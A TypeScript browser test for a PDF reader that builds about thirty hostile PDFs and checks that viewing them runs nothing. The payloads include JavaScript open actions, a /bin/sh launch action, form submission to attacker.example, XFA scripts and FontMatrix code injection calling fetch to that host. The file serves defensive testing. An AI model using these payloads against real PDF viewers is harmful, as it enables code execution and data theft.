import { expect, test } from 'vitest'
import { pdfOf } from '../server/src/platform/parsing/hostile-files.fixture.ts'
import { pdfWith } from '../server/src/testing/fixture-papers.ts'
import { importFile, useReaders } from './readers.ts'

const newReader = useReaders()
const run = "app.alert('ran'); this.submitForm('http://attacker.example/')"
const away = 'http://attacker.example/'
const contents = 'BT /F 24 Tf 72 700 Td (A page that was drawn.) Tj ET\n'
const helvetica = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'

/** A page with these entries of its catalog, of itself, and this font; more objects from 6 on. */
const crafted = (
  catalog: string,
  page = '',
  { font = helvetica, more = [] as readonly string[] } = {},
): Buffer =>
  pdfOf([
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>${page}>>`,
    { dictionary: '', stream: Buffer.from(contents) },
    font,
    ...more,
  ])

const actions = [
  `<</S/JavaScript/JS(${run.replace(/[()]/g, '\\$&')})>>`,
  `<</S/URI/URI(javascript:alert\\(1\\))>>`,
  `<</S/URI/URI(${away})>>`,
  '<</S/Launch/F(/bin/sh)>>',
  `<</S/GoToR/F(${away}x.pdf)/D[0/Fit]>>`,
  `<</S/SubmitForm/F(${away})>>`,
  `<</S/ImportData/F(${away}x.fdf)>>`,
  '<</S/Named/N/Print>>',
]
const annotation = (entries: string) => `/Annots[<</Type/Annot/Rect[0 0 612 792]${entries}>>]`
const matrix = (code: string) =>
  crafted('', '', {
    font: `<</Type/Font/Subtype/Type1/BaseFont/X/FontMatrix[1 0 0 1 0 (${code})]/FontDescriptor<</FontName/X>>>>`,
  })
const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">alert(1)</script></event><field><ui><imageEdit/></ui><value><image href="${away}"/></value></field></subform></template></xdp:xdp>`

const files: readonly Buffer[] = [
  ...actions.map((action) => crafted(`/OpenAction${action}`)),
  ...actions.map((action) => crafted('', `/AA<</O${action}/C${action}>>`)),
  ...actions.map((action) => crafted('', annotation(`/Subtype/Link/A${action}/AA<</E${action}>>`))),
  crafted(`/Names<</JavaScript<</Names[(a)${actions[0]}]>>>>`),
  crafted(`/AcroForm<</XFA(${xfa.replace(/[()]/g, '\\$&')})/Fields[]>>/NeedsRendering true`),
  crafted(`/AcroForm<</Fields[6 0 R]>>`, '/Annots[6 0 R]', {
    more: [`<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 99 99]/AA<</F${actions[0]}>>>>`],
  }),
  crafted('', annotation(`/Subtype/RichMedia/RichMediaContent<</Assets<</Names[(${away})]>>>>`)),
  matrix('0\\); alert\\(1\\); //'),
  matrix('1\\);fetch\\(`http://attacker.example/`\\);//'),
]

test('thirty PDFs that carry actions and code are drawn, and do nothing else (T02)', {
  retry: 0,
}, async () => {
  expect(files.length).toBeGreaterThanOrEqual(30)
  const { page, expectComplaint } = await newReader()
  // What pdf.js says of actions it does not know and fonts that are not there.
  expectComplaint(/Warning: (?:parseDestDictionary|RichMedia annotation|Cannot load system font)/)
  const seen: string[] = []
  page.on('dialog', (dialog) => {
    seen.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('popup', (popup) => seen.push(`window ${popup.url()}`))
  await page.goto('/')
  const own = new URL(page.url()).origin
  page.on('request', (request) => {
    if (!request.url().startsWith(own) && !/^(?:data|blob):/.test(request.url()))
      seen.push(`request ${request.url()}`)
  })
  const paperId = await importFile(page, {
    name: 'quiet.pdf',
    mimeType: 'application/pdf',
    buffer: pdfWith(['A Note on Quiet Engines', 'Quiet engines need 12 percent less oil.']),
  })
  let body = files[0] as Buffer
  await page.route(`**/api/papers/${paperId}/pdf`, (route) =>
    route.fulfill({ contentType: 'application/pdf', body }),
  )
  for (const [index, file] of files.entries()) {
    body = file
    await page.goto(`/paper/${paperId}?view=pdf`)
    await page
      .locator('.textLayer')
      .getByText('A page that was drawn.')
      .first()
      .waitFor({ state: 'attached' })
    await page.mouse.click(700, 500)
    if (new URL(page.url()).origin !== own) seen.push(`navigation ${index}`)
  }
  expect(seen).toEqual([])
})
